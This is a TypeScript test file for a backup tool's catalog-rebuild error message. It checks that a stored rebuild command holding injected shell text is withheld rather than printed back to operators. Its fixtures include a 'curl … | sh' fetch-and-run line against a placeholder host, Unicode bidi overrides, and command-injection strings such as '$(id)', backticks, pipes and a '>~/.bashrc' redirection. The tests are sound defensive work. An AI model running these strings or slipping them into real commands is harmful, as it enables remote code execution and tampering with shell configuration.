import { spawnSync } from 'node:child_process';
import { rebuildMarkerSchema } from '../../../../lambdas/catalog/catalog-rebuild-marker';
import { withMarkerOptions } from '../../../../lambdas/catalog/catalog-rebuild-marker-options';
import { PointInTimeInRebuildGapError, rebuildGapAdvice } from '../../../../lambdas/catalog/point-in-time-in-rebuild-gap-error';

/**
 * The command a refused restore by point in time, failover or drill prints from the catalog's rebuild marker (review r58C
 * F6): a marker written by a function from 37fe8b09 until 02d495e6 holds the runbook input's free text, which whoever
 * could start the runbook chose, and is read back after the update.
 */
const stored = (finishWith: string, vault: 'primary' | 'dr' = 'primary') =>
  rebuildMarkerSchema.parse({
    pk: 'REBUILD',
    sk: 'INCOMPLETE',
    reliableFrom: { startedAt: '2026-03-02T10:00:00.000Z', backupId: '20260302T100000Z-00000002' },
    vault,
    writtenAt: '2026-12-07T00:00:00.000Z',
    finishWith,
  });

const WITHHELD =
  "lifeboat catalog rebuild --vault primary with the options that name this catalog (--region dr for the DR region's; --env; --aws, or --data-dir on a local cloud): " +
  'the command the marker keeps is not shown, as it is not one a rebuild writes';

it('prints the generic line, not the text an older function stored from the runbook\'s input (a command, a line separator, bidi overrides)', () => {
  // What 37fe8b09's schema admitted (at most 1024 characters, starting 'lifeboat catalog rebuild ', no \p{Cc}).
  const hostile = 'lifeboat catalog rebuild --vault primary --env prod --aws; curl -s https://x.example/p | sh \u2028\u202Ehs|x lruc\u202C';
  const message = new PointInTimeInRebuildGapError('orders', '2026-01-01T00:00:00Z', stored(hostile), { backupId: '20260101T000000Z-00000001', startedAt: '2026-01-01T00:00:00Z' }).message;
  expect(message).toContain(`Finish the rebuild (from a machine, which has no time limit: ${WITHHELD}; the command without --runbook creates only what the catalog lacks)`);
  expect(message).not.toContain('curl');
  expect(message).not.toMatch(/[\u2028\u202E\u202C]/u);
});

it.each([
  ['an unquoted command separator', 'lifeboat catalog rebuild --vault primary --env prod --aws; id'],
  ['a command substitution', 'lifeboat catalog rebuild --vault primary --env $(id) --aws'],
  ['backticks', 'lifeboat catalog rebuild --vault primary --env `id` --aws'],
  ['a pipe', 'lifeboat catalog rebuild --vault primary --env prod --aws | sh'],
  ['a redirection', 'lifeboat catalog rebuild --vault primary --env prod --aws >~/.bashrc'],
  ['a line separator inside quotes', "lifeboat catalog rebuild --vault primary --env prod --data-dir '/srv/a\u2028b'"],
  ['a zero-width space', 'lifeboat catalog rebuild --vault primary --env prod\u200B --aws'],
  ['an unclosed quote', "lifeboat catalog rebuild --vault primary --env prod --data-dir '/srv/a"],
  ['another command', 'lifeboat failover --plan orders --env prod --aws'],
  ['the other vault', 'lifeboat catalog rebuild --vault dr --env prod --aws'],
])('withholds a stored line with %s', (_what, finishWith) => {
  expect(rebuildGapAdvice(stored(finishWith))).toContain(`no time limit: ${WITHHELD};`);
});

it('prints the lines a rebuild writes as they are, its options quoted as one shell word each', () => {
  const dataDir = "/srv/dr cloud; $(id) `id` it's";
  for (const [line, vault] of [
    ['lifeboat catalog rebuild --vault dr --region dr --env prod --aws', 'dr'],
    ['lifeboat catalog rebuild --vault primary --env prod --aws --vault-key arn:aws:kms:us-east-1:111122223333:key/1234abcd-12ab-34cd-56ef-1234567890ab', 'primary'],
    [withMarkerOptions('lifeboat catalog rebuild --vault primary --env dev', { dataDir }), 'primary'],
    ['lifeboat catalog rebuild --vault primary', 'primary'],
  ] as const) {
    expect(rebuildGapAdvice(stored(line, vault))).toContain(`no time limit: ${line};`);
  }
  // The one it keeps reads back as the words it was made of.
  const line = withMarkerOptions('lifeboat catalog rebuild --vault primary --env dev', { dataDir });
  expect(spawnSync('sh', ['-c', `printf '%s\\n' ${line}`], { encoding: 'utf8' }).stdout.split('\n').slice(-3, -1)).toEqual(['--data-dir', dataDir]);
});
